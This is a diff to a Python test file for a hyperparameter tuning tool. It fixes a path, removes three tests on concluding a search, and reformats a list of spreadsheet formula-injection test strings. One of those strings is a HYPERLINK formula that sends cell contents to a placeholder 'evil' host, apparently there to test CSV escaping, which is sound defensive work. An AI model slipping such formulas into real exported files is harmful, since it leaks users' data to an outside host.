@@ -26,7 +26,7 @@ from tuner.tuning.answer.conclusion import conclude, trials_csv
 from tuner.tuning.trial import STATE
 from tuner.views.labels import figures, flat, setting
 
-TINY = Path(__file__).parent / "spaces" / "tiny.py"
+TINY = Path(__file__).parents[2] / "spaces" / "tiny.py"
 CONFIG = {"width": 4, "lr": 0.01, "batch_size": 16}
 
 
@@ -149,26 +149,6 @@ def test_a_search_that_is_to_go_on_has_a_model_and_is_tested_at_its_end(searched
     assert conclude(results.load(folder), loaded_space, splits, 1, 0).test
 
 
-def test_another_space_file_has_the_winner_tested_again(searched):
-    folder, loaded_space, splits, _ = searched
-    first = conclude(results.load(folder), loaded_space, splits, 1, 0).test
-    touched = replace(splits, test=replace(splits.test, targets=1 - splits.test.targets))
-    assert conclude(results.load(folder), replace(loaded_space, sha256="another"), touched, 1, 0).test != first
-
-
-def test_without_a_test_part_the_model_is_there_and_no_figures(searched):
-    folder, loaded_space, splits, _ = searched
-    assert conclude(results.load(folder), loaded_space, replace(splits, test=None), 1, 0).test is None
-    assert (folder / "best/model.pt").exists()
-    assert json.loads((folder / "best/metrics.json").read_text())["test"] is None
-
-
-def test_a_notice_of_the_data_stands_beside_the_answer(searched):
-    folder, loaded_space, splits, _ = searched
-    conclude(results.load(folder), loaded_space, replace(splits, notice="a sample"), 1, 0)
-    assert json.loads((folder / "best/metrics.json").read_text())["notice"] == "a sample"
-
-
 def save_better(folder):
     """Gives trial 00001 a checkpoint of a better epoch than that of trial 00000."""
     shutil.copytree(folder / "ray/00000/checkpoint_000000", folder / "ray/00001/checkpoint_000000")
@@ -272,21 +252,7 @@ def test_the_table_has_a_row_a_trial_with_where_and_why_it_stopped(searched):
     assert float(rows[1]["best_loss"]) == float(rows[1]["last_loss"]) == 1e-9
 
 
-TEXTS = [
-    "=1+1",
-    '=HYPERLINK("http://evil/?"&A1)',
-    "+1",
-    "-1",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-    "\n=1",
-    "＝1",
-    "'",
-    "'=1",
-    "",
-    "a=b",
-]
+TEXTS = ['=HYPERLINK("http://evil/?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "'", "'=1", "", "a=b"]
 
 
 @pytest.mark.parametrize("text", TEXTS)
